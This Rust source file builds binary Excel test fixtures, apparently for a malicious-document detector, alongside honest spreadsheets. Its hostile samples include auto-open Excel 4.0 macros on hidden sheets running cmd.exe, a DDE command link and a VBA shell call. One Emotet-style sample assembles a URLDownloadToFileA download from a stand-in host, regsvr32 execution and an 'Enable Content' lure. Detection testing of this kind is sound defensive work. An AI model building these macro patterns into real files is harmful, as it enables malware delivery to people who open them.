//! Binary workbooks of Excel 97–2003 ([MS-XLS]) with cells: a small writer of records and formula tokens, and what
//! attackers and honest people make with it. The commands are inert.

use super::Fixture;
use super::cfb::Cfb;
use super::vba::{Module, add_project};
use super::xlsb;

fn record(id: u16, body: &[u8]) -> Vec<u8> {
    [&id.to_le_bytes()[..], &(body.len() as u16).to_le_bytes(), body].concat()
}

/// XLUnicodeStringNoCch (2.5.296).
fn letters(text: &str) -> Vec<u8> {
    if text.is_ascii() {
        return [&[0], text.as_bytes()].concat();
    }
    text.encode_utf16().flat_map(u16::to_le_bytes).fold(vec![1], |mut out, byte| {
        out.push(byte);
        out
    })
}

fn count(text: &str) -> usize {
    text.encode_utf16().count()
}

/// XLUnicodeString (2.5.294).
fn unicode(text: &str) -> Vec<u8> {
    [(count(text) as u16).to_le_bytes().to_vec(), letters(text)].concat()
}

/// Tokens of formulas ([MS-XLS] 2.5.198); the same in `.xlsb` where no width is named.
pub(crate) mod token {
    pub(crate) fn text(text: &str) -> Vec<u8> {
        [vec![0x17, super::count(text) as u8], super::letters(text)].concat()
    }

    pub(crate) fn int(value: u16) -> Vec<u8> {
        [vec![0x1E], value.to_le_bytes().to_vec()].concat()
    }

    /// A cell, row and column from 0, with `$`.
    pub(crate) fn cell(row: u16, column: u16) -> Vec<u8> {
        [vec![0x44], row.to_le_bytes().to_vec(), column.to_le_bytes().to_vec()].concat()
    }

    pub(crate) fn area(rows: [u16; 2], columns: [u16; 2]) -> Vec<u8> {
        [vec![0x25], [rows, columns].concat().iter().flat_map(|n| n.to_le_bytes()).collect()].concat()
    }

    /// A cell of the sheet that an XTI names.
    pub(crate) fn cell_3d(xti: u16, row: u16, column: u16) -> Vec<u8> {
        [vec![0x3A], [xti, row, column].iter().flat_map(|n| n.to_le_bytes()).collect()].concat()
    }

    /// An item of a supporting link, by its number from 1.
    pub(crate) fn name_x(xti: u16, name: u16) -> Vec<u8> {
        [vec![0x59], [xti, name, 0].iter().flat_map(|n| n.to_le_bytes()).collect()].concat()
    }

    pub(crate) const CONCAT: &[u8] = &[0x08];

    /// PtgFuncVar; commands have the highest bit set.
    pub(crate) fn call(number: u16, arguments: u8) -> Vec<u8> {
        [vec![0x42, arguments], number.to_le_bytes().to_vec()].concat()
    }

    pub(crate) const SUM: u16 = 0x0004;
    pub(crate) const HALT: u16 = 0x0036;
    pub(crate) const RETURN: u16 = 0x0037;
    pub(crate) const EXEC: u16 = 0x006E;
    pub(crate) const ALERT: u16 = 0x8076;
    pub(crate) const FORMULA: u16 = 0x8060;
}

/// Formula (2.4.127).
pub(crate) fn formula(row: u16, column: u16, value: f64, rgce: &[u8]) -> Vec<u8> {
    let mut body = [row, column, 0x0F].iter().flat_map(|n| n.to_le_bytes()).collect::<Vec<_>>();
    body.extend(value.to_le_bytes());
    body.extend([0; 6]);
    body.extend((rgce.len() as u16).to_le_bytes());
    body.extend(rgce);
    record(0x0006, &body)
}

/// LabelSst (2.4.149).
pub(crate) fn label(row: u16, column: u16, text: u32) -> Vec<u8> {
    let mut body = [row, column, 0x0F].iter().flat_map(|n| n.to_le_bytes()).collect::<Vec<_>>();
    body.extend(text.to_le_bytes());
    record(0x00FD, &body)
}

/// Number (2.4.180).
fn number(row: u16, column: u16, value: f64) -> Vec<u8> {
    let mut body = [row, column, 0x0F].iter().flat_map(|n| n.to_le_bytes()).collect::<Vec<_>>();
    body.extend(value.to_le_bytes());
    record(0x0203, &body)
}

/// A text box: MsoDrawing (2.4.170) with a shape that has a name, Obj (2.4.181), TxO (2.4.329).
fn text_box(name: &str, text: &str) -> Vec<u8> {
    let name: Vec<u8> = format!("{name}\0").encode_utf16().flat_map(u16::to_le_bytes).collect();
    let art = |version: u16, kind: u16, body: &[u8]| {
        [&version.to_le_bytes()[..], &kind.to_le_bytes(), &(body.len() as u32).to_le_bytes(), body].concat()
    };
    let entry = [&0x8380_u16.to_le_bytes()[..], &(name.len() as u32).to_le_bytes(), &name].concat();
    let shape = art(0x000F, 0xF004, &[art(0x0CA2, 0xF00A, &[0; 8]), art(0x0013, 0xF00B, &entry)].concat());
    let mut head = vec![0; 18];
    head[10..12].copy_from_slice(&(count(text) as u16).to_le_bytes());
    head[12] = 16;
    [
        record(0x00EC, &shape),
        record(0x005D, &[0x15, 0, 0x12, 0, 6, 0, 1, 0, 0x11, 0x60, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
        record(0x00EC, &art(0, 0xF00D, &[])),
        record(0x01B6, &head),
        record(0x003C, &letters(text)),
        record(0x003C, &[0; 16]),
    ]
    .concat()
}

/// An ActiveX control: MsoDrawing with its name, and Obj (2.4.181) that says where it stands in the stream of controls.
fn control(name: &str, class: &str, at: u32, size: u32) -> Vec<u8> {
    let name: Vec<u8> = format!("{name}\0").encode_utf16().flat_map(u16::to_le_bytes).collect();
    let art = |version: u16, kind: u16, body: &[u8]| {
        [&version.to_le_bytes()[..], &kind.to_le_bytes(), &(body.len() as u32).to_le_bytes(), body].concat()
    };
    let entry = [&0xC380_u16.to_le_bytes()[..], &(name.len() as u32).to_le_bytes(), &name].concat();
    let shape = art(0x000F, 0xF004, &[art(0x0C92, 0xF00A, &[0; 8]), art(0x0013, 0xF00B, &entry)].concat());
    // PtgTbl, then PictFmlaEmbedInfo with the name of the class.
    let class = [&[3, class.len() as u8, 0, 0][..], class.as_bytes()].concat();
    let mut formula = [&[5, 0, 0, 0, 0, 0, 2, 0, 0, 0, 0][..], &class].concat();
    formula.resize(formula.len().next_multiple_of(2), 0);
    let mut picture = [&(formula.len() as u16).to_le_bytes()[..], &formula].concat();
    picture.extend([at.to_le_bytes(), size.to_le_bytes(), [0; 4]].concat());
    let parts: [(u16, &[u8]); 5] = [
        (0x0015, &[8, 0, 1, 0, 0x11, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
        (0x0007, &[2, 0]),
        (0x0008, &[0x31, 0]),
        (0x0009, &picture),
        (0x0000, &[]),
    ];
    let parts = parts.iter().flat_map(|(kind, body)| record(*kind, body)).collect::<Vec<_>>();
    [record(0x00EC, &shape), record(0x005D, &parts)].concat()
}

/// A MorphDataControl ([MS-OFORMS] 2.2.5) with a value, a caption and the name of its group.
fn morph(value: &str, caption: &str, group: &str) -> Vec<u8> {
    let texts = [value, caption, group];
    let mut data = vec![0x40, 0x01, 0xC0, 0x80, 0x01, 0, 0, 0, 4, 0, 0, 0];
    data.extend(texts.iter().flat_map(|text| (0x8000_0000 | text.len() as u32).to_le_bytes()));
    data.extend([0, 8, 0, 0, 0, 2, 0, 0]);
    for text in texts {
        data.extend(text.as_bytes());
        data.resize(data.len().next_multiple_of(4), 0);
    }
    [&[0, 2][..], &(data.len() as u16).to_le_bytes(), &data].concat()
}

/// A workbook of Excel 97 whose macro starts what a check box on the sheet is labelled with.
fn with_control() -> Vec<u8> {
    // Forms.CheckBox.1
    let class = [0x40, 0x1D, 0xD2, 0x8B, 0x42, 0xEC, 0xCE, 0x11, 0x9E, 0x0D, 0x00, 0xAA, 0x00, 0x60, 0x02, 0xF3];
    let first = [&class[..], &morph("0", "Send copy", "a")].concat();
    let second = [&class[..], &morph("1", "cmd.exe /c echo hello", "b")].concat();
    let places = [(0, first.len() as u32), (first.len() as u32, second.len() as u32)];
    let sheet = Sheet::work(
        "Orders",
        vec![
            record(0x01BA, &unicode("Sheet1")),
            number(0, 0, 1.0),
            control("CheckBox1", "Forms.CheckBox.1", places[0].0, places[0].1),
            control("CheckBox2", "Forms.CheckBox.1", places[1].0, places[1].1),
        ],
    );
    let source = "Private Sub Workbook_Open()\nShell Sheet1.CheckBox2.Caption, 0\nEnd Sub";
    let cfb = Cfb::new()
        .clsid([0x20, 8, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46])
        .stream("Workbook", stream(&[own_book(1)], &[sheet]))
        .stream("Ctls", [first, second].concat());
    let modules = [Module::document("ThisWorkbook", source), Module::document("Sheet1", "")];
    add_project(cfb, "_VBA_PROJECT_CUR/", 1252, &modules).build()
}

/// A cell that fetches a page: `=WEBSERVICE("…")` by the name that functions newer than the format have.
pub(crate) fn fetch(address: &str) -> Vec<u8> {
    let call = [&[0x23, 1, 0, 0, 0][..], &token::text(address), &token::call(0x00FF, 2)].concat();
    book(
        &[sst(&["Rates"]), lbl(0x000E, "_xlfn.WEBSERVICE", &[0x1C, 0x1D])],
        &[Sheet::work("Sheet1", vec![label(0, 0, 0), formula(1, 0, 0.0, &call)])],
    )
}

/// A table of data from the web: Qsi (2.4.208), DbQuery (2.4.92), SXString (2.4.304).
pub(crate) fn web_table(automatic: bool, address: &str) -> Vec<u8> {
    let flags: u16 = if automatic { 0x0269 } else { 0x0249 };
    let table = [&flags.to_le_bytes()[..], &[0x10, 0, 0, 0, 0, 0, 0, 0], &unicode("Rates"), &[0, 0]].concat();
    let records = vec![
        number(0, 0, 1.0),
        record(0x01AD, &table),
        record(0x00DC, &[0x04, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0]),
        record(0x00CD, &unicode(address)),
    ];
    book(&[own_book(1)], &[Sheet::work("Rates", records)])
}

/// A connection of a workbook (DConn, 2.4.84): a page of the web that no table shows.
pub(crate) fn connection(automatic: bool, address: &str) -> Vec<u8> {
    let flags: u16 = if automatic { 0x0090 } else { 0x0010 };
    let head =
        [&[0x76, 8, 0, 0, 4, 0][..], &flags.to_le_bytes(), &[0; 8], &[3, 3, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]].concat();
    let body = [head, unicode("Rates"), unicode(""), unicode(address), vec![0; 4]].concat();
    book(&[own_book(1), record(0x0876, &body)], &[Sheet::work("Rates", vec![number(0, 0, 1.0)])])
}

/// A pivot table of a database: the texts of its query stand among the globals.
pub(crate) fn pivot(command: &str) -> Vec<u8> {
    let globals =
        [own_book(1), record(0x00DC, &[0x05, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0]), record(0x00CD, &unicode(command))];
    book(&globals, &[Sheet::work("Rates", vec![number(0, 0, 1.0)])])
}

/// A pivot table of what a connection fetches, with its cache: SXStreamID (2.4.311), SXVS (2.4.317), SXDB (2.4.275).
pub(crate) fn pivot_cache(loads: bool, address: &str) -> Vec<u8> {
    let flags: u16 = if loads { 0x0025 } else { 0x0021 };
    let cache = [&[0; 4][..], &[1, 0], &flags.to_le_bytes(), &[0x55, 0x1F, 1, 0, 1, 0, 1, 0, 2, 0, 0, 0]].concat();
    let globals = [
        own_book(1),
        record(0x00D5, &[1, 0]),
        record(0x00E3, &[2, 0]),
        record(0x00DC, &[0x04, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0]),
        record(0x00CD, &unicode(address)),
    ];
    let sheets = [Sheet::work("Rates", vec![number(0, 0, 1.0)])];
    compound(&globals, &sheets).stream("_SX_DB_CUR/0001", record(0x00C6, &cache)).build()
}

/// ShrFmla (2.4.277).
fn shared(rows: [u16; 2], columns: [u8; 2], rgce: &[u8]) -> Vec<u8> {
    let mut body = rows.iter().flat_map(|n| n.to_le_bytes()).collect::<Vec<_>>();
    body.extend(columns);
    body.extend([0, 2]);
    body.extend((rgce.len() as u16).to_le_bytes());
    body.extend(rgce);
    record(0x04BC, &body)
}

/// Lbl (2.4.150).
fn lbl(flags: u16, name: &str, rgce: &[u8]) -> Vec<u8> {
    let mut body = flags.to_le_bytes().to_vec();
    body.extend([0, count(name) as u8]);
    body.extend((rgce.len() as u16).to_le_bytes());
    body.extend([0; 8]);
    body.extend(letters(name));
    body.extend(rgce);
    record(0x0018, &body)
}

/// SST (2.4.265), split over two records in the middle of a text.
fn sst(texts: &[&str]) -> Vec<u8> {
    let mut body = [texts.len() as u32; 2].iter().flat_map(|n| n.to_le_bytes()).collect::<Vec<_>>();
    body.extend(texts.iter().flat_map(|text| unicode(text)));
    // Cut in the last text, behind its first letter, if that is a narrow one.
    let last = texts.last().filter(|text| text.is_ascii() && text.len() > 1).map_or(0, |text| text.len() - 1);
    if last == 0 {
        return record(0x00FC, &body);
    }
    let (head, tail) = body.split_at(body.len() - last);
    [record(0x00FC, head), record(0x003C, &[&[0], tail].concat())].concat()
}

/// SupBook (2.4.271) of another workbook or a conversation, with ExternName (2.4.105) for its items.
fn sup_book(path: &str, sheets: &[&str], items: &[(u16, &str)]) -> Vec<u8> {
    let mut body = (sheets.len() as u16).to_le_bytes().to_vec();
    body.extend(unicode(path));
    body.extend(sheets.iter().flat_map(|sheet| unicode(sheet)));
    let mut out = record(0x01AE, &body);
    for (flags, item) in items {
        let name = [flags.to_le_bytes().to_vec(), vec![0; 4], vec![count(item) as u8], letters(item)].concat();
        out.extend(record(0x0023, &name));
    }
    out
}

/// SupBook of the workbook itself.
fn own_book(sheets: u16) -> Vec<u8> {
    record(0x01AE, &[sheets.to_le_bytes(), [1, 4]].concat())
}

/// ExternSheet (2.4.106): link and sheet of each XTI.
fn extern_sheet(xtis: &[(u16, u16)]) -> Vec<u8> {
    let mut body = (xtis.len() as u16).to_le_bytes().to_vec();
    for (book, sheet) in xtis {
        body.extend([*book, *sheet, *sheet].iter().flat_map(|n| n.to_le_bytes()));
    }
    record(0x0017, &body)
}

/// A sheet under construction.
pub(crate) struct Sheet {
    name: &'static str,
    /// `hsState`: 0 visible, 1 hidden, 2 very hidden.
    state: u8,
    /// `dt` of the BoundSheet8; none where the globals say nothing of the sheet.
    declared: Option<u8>,
    /// `dt` of its BOF.
    kind: u16,
    records: Vec<Vec<u8>>,
}

impl Sheet {
    fn work(name: &'static str, records: Vec<Vec<u8>>) -> Self {
        Self { name, state: 0, declared: Some(0), kind: 0x0010, records }
    }

    fn macros(name: &'static str, state: u8, records: Vec<Vec<u8>>) -> Self {
        Self { name, state, declared: Some(1), kind: 0x0040, records }
    }

    fn declared(mut self, declared: Option<u8>) -> Self {
        self.declared = declared;
        self
    }
}

fn bof(kind: u16) -> Vec<u8> {
    record(0x0809, &[&[0, 6], &kind.to_le_bytes()[..], &[0xBB, 0x0D, 0xCC, 0x07, 0, 0, 0, 0, 6, 0, 0, 0]].concat())
}

/// The stream of a workbook: globals, then the sheets.
pub(crate) fn stream(globals: &[Vec<u8>], sheets: &[Sheet]) -> Vec<u8> {
    let end = record(0x000A, &[]);
    let bodies: Vec<Vec<u8>> =
        sheets.iter().map(|sheet| [bof(sheet.kind), sheet.records.concat(), end.clone()].concat()).collect();
    let bound = |at: usize, sheet: &Sheet| {
        sheet.declared.map_or_else(Vec::new, |declared| {
            let mut body = (at as u32).to_le_bytes().to_vec();
            body.extend([sheet.state, declared, count(sheet.name) as u8]);
            body.extend(letters(sheet.name));
            record(0x0085, &body)
        })
    };
    let head = |from: usize| {
        let mut at = from;
        let mut out = bof(5);
        for (sheet, body) in sheets.iter().zip(&bodies) {
            out.extend(bound(at, sheet));
            at += body.len();
        }
        [out, globals.concat(), end.clone()].concat()
    };
    let mut out = head(head(0).len());
    out.extend(bodies.concat());
    // The stream is padded, as a compound file's sectors are.
    out.resize(out.len().next_multiple_of(512).max(4096), 0);
    out
}

fn book(globals: &[Vec<u8>], sheets: &[Sheet]) -> Vec<u8> {
    compound(globals, sheets).build()
}

fn compound(globals: &[Vec<u8>], sheets: &[Sheet]) -> Cfb {
    Cfb::new()
        .clsid([0x20, 8, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46])
        .stream("Workbook", stream(globals, sheets))
        .stream("\u{5}SummaryInformation", vec![0xFE, 0xFF, 0, 0])
}

/// `=EXEC("cmd.exe /c echo …")` and `=HALT()` below each other in the first column.
fn exec_sheet(name: &'static str, state: u8) -> Sheet {
    let exec = [token::text("cmd.exe /c echo hello"), token::call(token::EXEC, 1)].concat();
    Sheet::macros(name, state, vec![formula(0, 0, 0.0, &exec), formula(1, 0, 0.0, &token::call(token::HALT, 0))])
}

/// The stream of a workbook whose macro starts a program by itself.
pub(crate) fn acting_stream() -> Vec<u8> {
    let name = lbl(0x20, "\u{1}", &token::cell_3d(0, 0, 0));
    let sheets = [Sheet::work("Sheet1", vec![label(0, 0, 0)]), exec_sheet("Macro1", 2)];
    stream(&[sst(&["Total of the month"]), own_book(2), extern_sheet(&[(0, 1)]), name], &sheets)
}

/// The stream of a table.
pub(crate) fn honest_stream() -> Vec<u8> {
    stream(&[sst(&["申請書"]), own_book(1)], &[Sheet::work("様式", vec![label(0, 0, 0), number(1, 0, 5.0)])])
}

/// A first sheet with words, and the name that starts the first cell of the second.
fn started(name: &[u8], flags: u16, sheets: Vec<Sheet>) -> Vec<u8> {
    let name = lbl(flags, std::str::from_utf8(name).unwrap(), &token::cell_3d(0, 0, 0));
    let mut all = vec![Sheet::work("Sheet1", vec![label(0, 0, 0)])];
    all.extend(sheets);
    book(&[sst(&["Total of the month"]), own_book(2), extern_sheet(&[(0, 1)]), name], &all)
}

/// As Emotet built them in 2022: very hidden sheets, one with pieces of text, one with the macro that joins them and
/// writes the result into its own cells.
fn pieces() -> Vec<u8> {
    let texts = [
        "This document is protected. Click Enable Editing, then Enable Content",
        "=CALL(\"urlmon\",\"URLDownload",
        "ToFileA\",\"JJCCBB\",0,\"http://files.exam",
        "ple/a/\",\"..\\wave.ocx\",0,0)",
        "=EXEC(\"C:\\Windows\\SysWow64\\regs",
        "vr32.exe -s ..\\wave.ocx\")",
        "=RETURN()",
    ];
    let piece = |row: u16| token::cell_3d(0, row, 2);
    let write = |parts: &[u16], row: u16| {
        let mut rgce = piece(parts[0]);
        for part in &parts[1..] {
            rgce.extend(piece(*part));
            rgce.extend(token::CONCAT);
        }
        rgce.extend(token::cell(row, 0));
        rgce.extend(token::call(token::FORMULA, 2));
        rgce
    };
    let macros = vec![
        formula(0, 0, 0.0, &write(&[0, 1, 2], 4)),
        formula(1, 0, 0.0, &write(&[3, 4], 5)),
        formula(2, 0, 0.0, &write(&[5], 6)),
    ];
    let cells = (1..7).map(|text| label(text - 1, 2, u32::from(text))).collect();
    book(
        &[sst(&texts), own_book(3), extern_sheet(&[(0, 1), (0, 2)]), lbl(0x21, "\u{1}", &token::cell_3d(1, 0, 0))],
        &[
            Sheet::work("Sheet", vec![label(3, 1, 0)]),
            Sheet { state: 2, ..Sheet::work("Gfre", cells) },
            Sheet::macros("EGVEB", 2, macros),
        ],
    )
}

/// A sum, a shared formula, a text box, a print area, and prices from a workbook on the same disk.
fn honest() -> Vec<u8> {
    let link = sup_book("\u{1}\u{1}Cdata\u{3}prices.xls", &["Prices"], &[]);
    let sum = [token::area([0, 1], [0, 0]), token::call(token::SUM, 1)].concat();
    // The cell one row up and in the same column, twice, for two cells.
    let up = [&[0x4C, 0xFF, 0xFF, 0, 0xC0][..], &[0x4C, 0xFF, 0xFF, 0, 0xC0], &[0x03]].concat();
    let sheet = Sheet::work(
        "集計",
        vec![
            number(0, 0, 1.5),
            number(1, 0, 2.0),
            formula(2, 0, 3.5, &sum),
            formula(3, 0, 7.0, &[1, 3, 0, 0, 0]),
            shared([3, 4], [0, 0], &up),
            formula(4, 0, 14.0, &[1, 3, 0, 0, 0]),
            formula(5, 0, 120.0, &token::cell_3d(1, 4, 1)),
            label(6, 0, 0),
            label(7, 0, 1),
            text_box("メモ", "毎月 5 日までに提出してください"),
        ],
    );
    let area = [vec![0x3B], [0_u16, 0, 7, 0, 3].iter().flat_map(|n| n.to_le_bytes()).collect::<Vec<_>>()].concat();
    book(
        &[
            sst(&["合計", "Prices of the month"]),
            own_book(1),
            link,
            extern_sheet(&[(0, 0), (1, 0)]),
            lbl(0x20, "\u{6}", &area),
            lbl(0, "Rate", &token::cell_3d(0, 1, 0)),
        ],
        &[sheet],
    )
}

/// A conversation with a program: the link, its item, and a cell that asks for it.
fn conversation(server_and_topic: &str, item: &str) -> Vec<u8> {
    book(
        &[sup_book(server_and_topic, &[], &[(0x0002, item)]), extern_sheet(&[(0, 0xFFFE)])],
        &[Sheet::work("Sheet1", vec![formula(0, 0, 0.0, &token::name_x(0, 1))])],
    )
}

pub(crate) fn fixtures() -> Vec<Fixture> {
    let damaged = {
        let (cut, alert) = ([0x44, 0, 0], [token::text("done"), token::call(token::ALERT, 1)].concat());
        let records = vec![formula(0, 0, 0.0, &cut), formula(1, 0, 0.0, &alert), formula(2, 0, 0.0, &[0x1B, 0])];
        started(b"\x01", 0x20, vec![Sheet::macros("Macro1", 0, records)])
    };
    let raw = {
        let name = lbl(0x20, "\u{1}", &token::cell_3d(0, 0, 0));
        stream(&[own_book(1), extern_sheet(&[(0, 0)]), name], &[exec_sheet("Macro1", 0)])
    };
    let unlisted = book(
        &[sst(&["Prices"])],
        &[Sheet::work("Sheet1", vec![label(0, 0, 0)]), exec_sheet("Macro1", 0).declared(None)],
    );
    let sheet = |state| vec![exec_sheet("Macro1", state)];
    vec![
        Fixture::new("biff-macro-joins-cells", "請求書.xls", pieces()),
        Fixture::new("biff-auto-open-exec", "order.xls", started(b"\x01", 0x20, sheet(2))),
        Fixture::new("biff-auto-open-with-zeros", "order.xls", started(b"\0aUto\0_oPen\0zz", 0x01, sheet(1))),
        Fixture::new(
            "biff-sheet-declared-as-another-kind",
            "order.xls",
            started(b"\x01", 0x20, vec![exec_sheet("Sheet2", 0).declared(Some(0))]),
        ),
        Fixture::new("biff-sheet-not-declared", "order.xls", unlisted),
        Fixture::new("biff-stream-alone", "order.xls", raw),
        Fixture::new("biff-damaged-formula", "order.xls", damaged),
        Fixture::new("biff-dde-command", "order.xls", conversation("cmd\u{3}/c echo hello", "A0")),
        Fixture::new("biff-dde-prices", "株価.xls", conversation("RSS\u{3}7203.T", "現在値")),
        Fixture::new("biff-control-caption", "order.xls", with_control()),
        Fixture::new("biff-honest", "集計.xls", honest()).honest(),
        Fixture::new("xlsb-auto-open-exec", "order.xlsb", xlsb::exec()),
        Fixture::new("xlsb-honest", "集計.xlsb", xlsb::honest()).honest(),
        Fixture::new("xlsb-dde-command", "order.xlsb", xlsb::conversation("cmd", "/c echo hello")),
    ]
}
